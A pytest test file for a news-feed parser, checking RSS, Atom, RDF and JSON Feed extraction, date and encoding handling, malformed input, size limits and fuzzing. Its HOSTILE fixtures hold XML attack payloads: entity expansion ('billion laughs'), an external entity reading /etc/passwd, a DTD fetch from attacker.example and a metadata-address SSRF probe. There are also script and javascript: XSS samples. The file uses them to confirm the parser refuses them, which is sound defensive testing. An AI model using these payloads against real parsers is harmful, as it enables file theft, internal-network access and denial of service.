"""Feeds of every format, the malformed ones and the hostile ones."""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.errors import FeedInvalid
from services.sources.formats.feeds import looks_like_feed, parse_feed
from services.sources.formats.limits import ITEMS
from services.sources.types import Feed

URL = "https://news.example/feeds/all.xml"

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/"
  xmlns:media="http://search.yahoo.com/mrss/" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"
  xmlns:feedburner="http://rssnamespace.org/feedburner/ext/1.0">
<channel><title>Harbour News</title><link>https://news.example/</link><description>All &amp; everything</description>
<language>en-GB</language><ttl>30</ttl>
<item><title>Ferry &lt;b&gt;returns&lt;/b&gt;</title><link>/2026/ferry</link><guid isPermaLink="false">f-1</guid>
<dc:creator>Ann Lee</dc:creator><dc:creator>Bo Karl</dc:creator><pubDate>Tue, 03 Mar 2026 10:00:00 +0200</pubDate>
<category>Transport</category><category>Transport</category><description>It &lt;i&gt;came&lt;/i&gt; back.</description>
<content:encoded><![CDATA[<p>It came back.</p><script>alert(1)</script><p>All were glad.</p>]]></content:encoded>
<media:thumbnail url="https://news.example/f.jpg"/></item>
<item><title>Second</title><link>https://go.example/r/1</link>
<feedburner:origLink>https://news.example/2026/second</feedburner:origLink><author>ed@news.example (Ed Poe)</author></item>
</channel></rss>"""

ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de" xml:base="https://zeitung.example/de/">
<title type="html">Die &amp;lt;Zeitung&amp;gt;</title><link rel="self" href="feed.atom"/><link href="./"/>
<entry><id>tag:1</id><title>Titel</title><link rel="enclosure" href="a.mp3"/><link rel="alternate" href="artikel/1"/>
<updated>2026-03-03T10:00:00Z</updated><author><name>Ute</name><email>u@zeitung.example</email></author>
<summary type="text">a &lt;b&gt; c</summary>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Eins</p><p>Zwei</p></div></content></entry></feed>"""

RDF = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/">
<channel rdf:about="https://r.example/"><title>R</title><link>https://r.example/</link>
<sy:updatePeriod>hourly</sy:updatePeriod><sy:updateFrequency>2</sy:updateFrequency></channel>
<item rdf:about="https://r.example/1"><title>One</title><link>https://r.example/1</link><dc:date>2026-03-03</dc:date></item>
</rdf:RDF>"""


def parse(content: str | bytes, content_type: str | None = None) -> Feed:
    """As from the news site."""
    return parse_feed(content.encode() if isinstance(content, str) else content, content_type=content_type, url=URL)


def rss_item(inside: str) -> str:
    """An RSS feed of one item."""
    return f"<rss version='2.0'><channel><title>T</title><item>{inside}</item></channel></rss>"


def test_rss_gives_every_field() -> None:
    feed = parse(RSS)
    assert (feed.kind, feed.title, feed.site_url, feed.language) == (
        "rss",
        "Harbour News",
        "https://news.example/",
        "en-GB",
    )
    assert (feed.description, feed.ttl_seconds) == ("All & everything", 1800)
    first, second = feed.items
    assert (first.title, first.url, first.guid) == ("Ferry returns", "https://news.example/2026/ferry", "f-1")
    assert first.authors == ("Ann Lee", "Bo Karl")
    assert first.published_at == datetime(2026, 3, 3, 8, tzinfo=UTC)
    assert first.categories == ("Transport",)
    assert (first.summary, first.content) == ("It came back.", "It came back.\n\nAll were glad.")
    assert first.image_url == "https://news.example/f.jpg"
    assert (second.url, second.authors) == ("https://news.example/2026/second", ("Ed Poe",))


def test_atom_gives_every_field() -> None:
    feed = parse(ATOM)
    assert (feed.kind, feed.language, feed.site_url) == ("atom", "de", "https://zeitung.example/de/")
    (entry,) = feed.items
    assert (entry.url, entry.guid, entry.authors) == ("https://zeitung.example/de/artikel/1", "tag:1", ("Ute",))
    assert entry.published_at == entry.updated_at == datetime(2026, 3, 3, 10, tzinfo=UTC)
    assert (entry.summary, entry.content) == ("a <b> c", "Eins\n\nZwei")


def test_rdf_items_beside_the_channel_are_read() -> None:
    feed = parse(RDF)
    assert (feed.kind, feed.ttl_seconds) == ("rdf", 1800)
    assert feed.items[0].published_at == datetime(2026, 3, 3, tzinfo=UTC)


def test_json_feed_gives_every_field() -> None:
    item = {
        "id": 7, "url": "/a", "title": "A", "content_html": "<p>x</p><p>y</p>", "summary": "s", "tags": ["t"],
        "authors": [{"name": "Ann"}], "date_published": "2026-03-03T10:00:00+02:00", "banner_image": "b.png",
    }  # fmt: skip
    feed = parse(json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "J", "items": [item, "junk"]}))
    (read,) = feed.items
    assert (feed.kind, read.guid, read.url, read.content) == ("json", "7", "https://news.example/a", "x\n\ny")
    assert (read.authors, read.image_url) == (("Ann",), "https://news.example/feeds/b.png")
    assert read.published_at == datetime(2026, 3, 3, 8, tzinfo=UTC)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Sun, 06 Jul 2014 12:56:00 EST", "2014-07-06T17:56:00+00:00"),
        ("6 Jul 14 12:56 GMT", "2014-07-06T12:56:00+00:00"),
        ("2014-07-06T12:56:00.1234567+02:00", "2014-07-06T10:56:00.123456+00:00"),
        ("2014-07-06 12:56:00", "2014-07-06T12:56:00+00:00"),
        ("Sunday, July 6, 2014 12:56 PM PDT", "2014-07-06T19:56:00+00:00"),
        ("Sun, 06 Jul 2014 12:56:00 QQQ", "2014-07-06T12:56:00+00:00"),
        ("2014-07", "2014-07-01T00:00:00+00:00"),
        ("yesterday", None),
        ("12:30", None),
        ("Sunday", None),
        ("0000-00-00T00:00:00Z", None),
        ("9999-12-31T23:59:59-14:00", None),
    ],
)
def test_dates_of_any_spelling_are_utc_or_nothing(text: str, expected: str | None) -> None:
    found = parse(rss_item(f"<pubDate>{text}</pubDate>")).items[0].published_at
    assert (found.isoformat() if found else None) == expected


@pytest.mark.parametrize(
    ("author", "name"),
    [
        ("Ann Lee (ann@news.example)", "Ann Lee"),
        ("ann@news.example (Ann Lee)", "Ann Lee"),
        ("Ann Lee &lt;ann@news.example&gt;", "Ann Lee"),
        ("ann@news.example", "ann@news.example"),
        ("<name>Ann Lee</name><email>ann@news.example</email>", "Ann Lee"),
        ("Ann Lee (Reuters)", "Ann Lee (Reuters)"),
    ],
)
def test_an_author_is_the_name_and_a_mail_address_only_for_want_of_one(author: str, name: str) -> None:
    assert parse(rss_item(f"<author>{author}</author>")).items[0].authors == (name,)


@pytest.mark.parametrize("link", ["javascript:alert(1)", "data:text/html,x", "http://[bad", "mailto:a@b.example", ""])
def test_links_that_are_no_pages_are_none(link: str) -> None:
    assert parse(rss_item(f"<link>{link}</link>")).items[0].url is None


def test_a_permalink_guid_stands_for_a_missing_link() -> None:
    assert parse(rss_item("<guid>https://news.example/1</guid>")).items[0].url == "https://news.example/1"
    assert parse(rss_item("<guid isPermaLink='false'>https://news.example/1</guid>")).items[0].url is None


@pytest.mark.parametrize(
    "feed",
    [
        "\n\n  " + RSS,
        "\ufeff" + RSS,
        "<br /><b>Warning</b>: include failed\n" + RSS,
        RSS.replace("All &amp; everything", "All & everything"),
        RSS.replace("All &amp; everything", "All \x0b& everything"),
        RSS.replace("Second</title>", "Second&nbsp;&eacute;</title>"),
        RSS.replace(' xmlns:content="http://purl.org/rss/1.0/modules/content/"', ""),
        RSS[: RSS.index("<author>")],
        RSS.replace("</channel></rss>", ""),
        RSS.replace("</item>", "", 1),
        RSS.replace("</item>", "</item></item>", 1),
        RSS.replace("<channel>", "").replace("</channel>", ""),
    ],
)
def test_malformed_feeds_give_what_can_be_had(feed: str) -> None:
    read = parse(feed)
    assert read.title == "Harbour News"
    assert read.description == "All & everything"
    assert [item.url for item in read.items] == ["https://news.example/2026/ferry", "https://news.example/2026/second"]
    assert read.items[0].content == "It came back.\n\nAll were glad."


@pytest.mark.parametrize(
    "reference", ["&#xD800;", "&#55296;", "&#0;", "&#x1F;", "&#xFFFFFF;", "&#1114112;", "&#xFFFF;"]
)
def test_references_to_no_character_are_replaced(reference: str) -> None:
    escaped = reference.replace("&", "&amp;")
    (item,) = parse(rss_item(f"<title>a{reference}b</title><description>&lt;p>c{escaped}d&lt;/p></description>")).items
    assert (item.title, item.summary) == ("a\ufffdb", "c\ufffdd")


@pytest.mark.parametrize(
    "hidden", ["&AMP;#xD800;", "&#&#0;xD800;", "<x y='<![CDATA['/>&#xD800;", "<x xmlns='&#xD800'/>"]
)
def test_no_half_character_is_smuggled_in(hidden: str) -> None:
    str(parse(rss_item(f"<title>a{hidden}b</title>"))).encode()


def test_references_to_characters_are_read_as_browsers_do() -> None:
    assert (
        parse(rss_item("<title>&#8217;&#146;&#x1F600;&#60;&#38;&nosuch;&copy;</title>")).items[0].title
        == "’’😀<&&nosuch;©"
    )


ACCENT = '<?xml version="1.0" encoding="{}"?><rss><channel><title>Café</title></channel></rss>'


@pytest.mark.parametrize(
    ("declared", "written", "content_type"),
    [
        ("utf-8", "utf-8", None),
        ("iso-8859-1", "iso-8859-1", "text/xml"),
        ("utf-8", "iso-8859-1", None),
        ("utf-8", "iso-8859-1", "text/xml; charset=ISO-8859-1"),
        ("iso-8859-1", "utf-8", 'application/rss+xml; charset="utf-8"'),
        ("koi8-r", "utf-16", "text/xml; charset=koi8-r"),
        ("utf-16", "utf-8", None),
        ("utf-8", "utf-16-le", None),
        ("martian", "utf-8", "text/xml; charset=martian"),
    ],
)
def test_the_byte_order_mark_beats_the_header_and_the_header_the_prolog(
    declared: str, written: str, content_type: str | None
) -> None:
    assert parse(ACCENT.format(declared).encode(written), content_type).title == "Café"


def test_a_torn_or_pasted_byte_does_not_change_the_encoding_of_the_rest() -> None:
    feed = rss_item("<title>Žluťoučký kůň</title>").encode()
    assert parse(feed.replace(b"</title></item>", b"\x92</title></item>")).items[0].title.startswith("Žluťoučký kůň")
    torn = feed[: feed.rindex("ň".encode()) + 1]
    assert parse(torn).items[0].title.startswith("Žluťoučký ků")


def test_shifted_japanese_is_read_by_its_claim() -> None:
    content = '<?xml version="1.0" encoding="iso-2022-jp"?><rss><channel><title>日本</title></channel></rss>'
    assert parse(content.encode("iso-2022-jp")).title == "日本"


def test_the_header_beats_the_prolog_where_both_are_possible() -> None:
    content = '<?xml version="1.0" encoding="windows-1252"?><rss><channel><title>Дом</title></channel></rss>'.encode(
        "koi8-r"
    )
    assert parse(content, "text/xml; charset=koi8-r").title == "Дом"


LAUGHS = '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><rss><channel><title>&b;</title></channel></rss>'
HOSTILE = [
    LAUGHS,
    LAUGHS.replace("DOCTYPE", "doctype"),
    '<?xml version="1.0"?>\n<!-- <rss> -->' + LAUGHS,
    '<!DOCTYPE rss SYSTEM "x>y" [<!ENTITY % p SYSTEM "http://169.254.169.254/">%p;]><rss/>',
    '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">%remote;]><rss/>',
    '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>',
    f'<!DOCTYPE rss [<!ENTITY a "{"A" * 50_000}">]><rss><channel><title>{"&a;" * 50_000}</title></channel></rss>',
]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
@pytest.mark.parametrize("feed", HOSTILE, ids=range(len(HOSTILE)))
def test_documents_that_declare_entities_are_refused(feed: str, encoding: str) -> None:
    with pytest.raises(FeedInvalid, match="refused"):
        parse(feed.encode(encoding))


@pytest.mark.parametrize("encoding", ["utf-7", "cp037"])
def test_encodings_that_hide_markup_are_not_believed(encoding: str) -> None:
    content = LAUGHS.encode(encoding)
    with pytest.raises(FeedInvalid):
        parse(content, f"text/xml; charset={encoding}")
    with pytest.raises(FeedInvalid):
        parse(f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + content)


def test_a_document_type_without_declarations_is_passed_over_and_entities_stay_unread() -> None:
    read = parse(
        '<!DOCTYPE rss SYSTEM "http://my.example/rss-0.91.dtd"><rss><channel><title>A&x;B</title></channel></rss>'
    )
    assert read.title == "A&x;B"


def test_a_document_type_after_the_root_declares_nothing() -> None:
    read = parse(f"<rss><channel><title>T</title></channel>{LAUGHS}</rss>")
    assert "hahaha" not in str(read)


@pytest.mark.parametrize(
    "content",
    [
        "", "  \n", "<!DOCTYPE html><html><body>Not found</body></html>", "<html><head><title>x</title></head></html>",
        "plain words", '{"items": 3}', '{"a": ', "[1]", "[" * 100_000, "<urlset/>", "\x00\x01\x02", "<!DOCTYPE rss",
    ],
)  # fmt: skip
def test_what_is_no_feed_is_refused_with_a_sentence(content: str) -> None:
    with pytest.raises(FeedInvalid) as refusal:
        parse(content)
    assert refusal.value.detail.endswith(".")


@pytest.mark.parametrize(
    "feed",
    [
        "<rss><channel>" + "<item><title>x</title></item>" * (ITEMS + 5) + "</channel></rss>",
        rss_item("<title>" + "&lt;b&gt;" * 200_000 + "</title>"),
        rss_item("<description>" + "<p>" * 200_000 + "</description>"),
        rss_item("<![CDATA[" * 200_000),
        rss_item("<description>&lt;img " + "a" * 1_000_000 + "</description>"),
        rss_item("<description>" + "&lt;img " * 200_000 + "</description>"),
        rss_item("<author>" + "a (" * 300_000 + "</author>"),
        rss_item("<pubDate>" + "1" * 1_000_000 + "</pubDate>"),
        rss_item("<category>x</category>" * 100_000),
        "<!--" * 300_000 + "<rss/>",
        "<rss>" + "<a>" * 300_000,
        rss_item("<title>" + "& " * 500_000 + "</title>"),
        "<rss>" + "<item><title>" * 120 + "<b>x</b>" * 300_000,
        "<rss>" + ("<item><description>" + "&lt;img " * 3000 + "</description></item>") * 250,
        "<rss>" + ("<item>" + ("<author>a@" + "b" * 190 + "((</author>") * 20 + "</item>") * 1000,
        "<rss>" + ("<item>" + "<pubDate>1:1:1 1:1:1 1:1:1</pubDate>" * 20 + "</item>") * 5000,
        "<rss>" + "<item>" * 240 + "<title>" + "<b>x</b>" * 300_000,
    ],
    ids=range(17),
)
def test_large_and_crooked_feeds_take_bounded_time_and_space(feed: str) -> None:
    started = time.process_time()
    try:
        read = parse(feed)
    except FeedInvalid:
        read = Feed("rss", "")
    assert time.process_time() - started < 5
    assert len(read.items) <= ITEMS
    assert all(
        len(item.title) <= 1000 and len(item.content or "") <= 200_000 and len(item.categories) <= 50
        for item in read.items
    )


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from([RSS, ATOM, RDF, '{"version":"https://jsonfeed.org/version/1","items":[{"id":"1","tags":["a"]}]}']),
    st.lists(st.tuples(st.floats(0, 1), st.integers(0, 60), st.binary(max_size=12) | st.sampled_from(
        [b"<![CDATA[", b"]]>", b"&", b"<!--", b"\x00", b"<item>", b"</channel>", b"<!DOCTYPE", b"\xff\xfe", b"null"]
    )), max_size=6),
    st.sampled_from([None, "text/xml; charset=utf-16", "application/json", "text/html; charset=shift_jis"]),
)  # fmt: skip
def test_no_bytes_raise_anything_but_feed_invalid(
    feed: str, edits: list[tuple[float, int, bytes]], content_type: str | None
) -> None:
    content = feed.encode()
    for where, cut, insert in edits:
        at = int(where * len(content))
        content = content[:at] + insert + content[at + cut :]
    looks_like_feed(content, content_type)
    try:
        read = parse_feed(content, content_type=content_type, url=URL)
    except FeedInvalid:
        return
    str(read).encode()
    for item in read.items:
        assert item.url is None or item.url.lower().startswith(("http://", "https://"))
        assert item.published_at is None or item.published_at.tzinfo is UTC


@settings(max_examples=100, deadline=None)
@given(
    st.binary(max_size=300) | st.text(max_size=300).map(lambda text: text.encode("utf-8", "ignore")),
    st.text(max_size=30),
)
def test_any_bytes_are_a_feed_or_feed_invalid(content: bytes, content_type: str) -> None:
    try:
        parse_feed(b"<rss><channel><item>" + content, content_type=content_type, url=URL)
        parse_feed(content, content_type=content_type, url=URL)
    except FeedInvalid:
        pass


def test_feeds_are_told_from_pages_at_a_glance() -> None:
    assert all(
        looks_like_feed(feed.encode(), None)
        for feed in (RSS, ATOM, RDF, '{"version": "https://jsonfeed.org/version/1"}')
    )
    assert not looks_like_feed(b"<!doctype html><html><head><link type='application/rss+xml'>", "text/html")
    assert not looks_like_feed(b'{"a": 1}', "application/json")
